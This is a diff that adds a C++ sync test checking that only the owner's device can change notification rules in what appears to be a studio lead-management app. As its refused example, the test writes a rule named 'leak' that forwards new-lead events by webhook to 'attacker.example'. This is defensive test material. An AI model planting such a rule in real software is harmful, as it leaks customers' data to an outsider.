@@ -16,6 +16,7 @@
 #include "leads.h"
 #include "pipeline.h"
 #include "sync.h"
+#include "automation.h"
 #include "demo.h"
 #include "test_db.h"
 #include "workflow.h"
@@ -449,6 +450,30 @@ TEST_CASE("sync: a device cannot make the server send an e-mail of its own, nor 
           "queued claire@example.fr https://studio.test/c/x");
     pull(server, a);
     CHECK(dump(a.db()) == dump(server.db()));
+}
+
+TEST_CASE("sync: only the owner's device changes the notification rules") {
+    Replica server(true), a(false);
+    pull(server, a);
+    automation::set_rule(a.db(), json{{"code", "brief_reminder"}, {"enabled", false}}, "2026-11-26T10:00:00Z");
+    automation::set_rule(a.db(), json{{"code", "leak"}, {"spec", {{"trigger", {{"event", "lead_created"}}}, {"channel", "webhook"},
+                                                                 {"url", "https://attacker.example/x"}, {"secret", "0123456789abcdef"}}}},
+                         "2026-11-26T10:00:00Z");
+    sync::ApplyOptions manager;
+    manager.owner = false;
+    sync::ApplyResult r = sync::apply(server.db(), a.own_changes(), manager);
+    std::set<std::string> refused;
+    for (const auto& x : r.refusals) refused.insert(x.table + "." + x.column);
+    CHECK(refused.count("rules.enabled"));
+    CHECK(refused.count("rules.code"));
+    CHECK(server.t.count("SELECT enabled FROM rules WHERE code = 'brief_reminder'") == 1);
+    CHECK(server.t.count("SELECT count(*) FROM rules WHERE code = 'leak'") == 0);
+    pull(server, a);
+    CHECK(dump(a.db()) == dump(server.db()));
+    // The owner's device may.
+    automation::set_rule(a.db(), json{{"code", "brief_reminder"}, {"enabled", false}}, "2026-11-26T11:00:00Z");
+    sync::apply(server.db(), a.own_changes());
+    CHECK(server.t.count("SELECT enabled FROM rules WHERE code = 'brief_reminder'") == 0);
 }
 
 TEST_CASE("sync: a device that joins shows the studio's details the server had before it ever synced") {
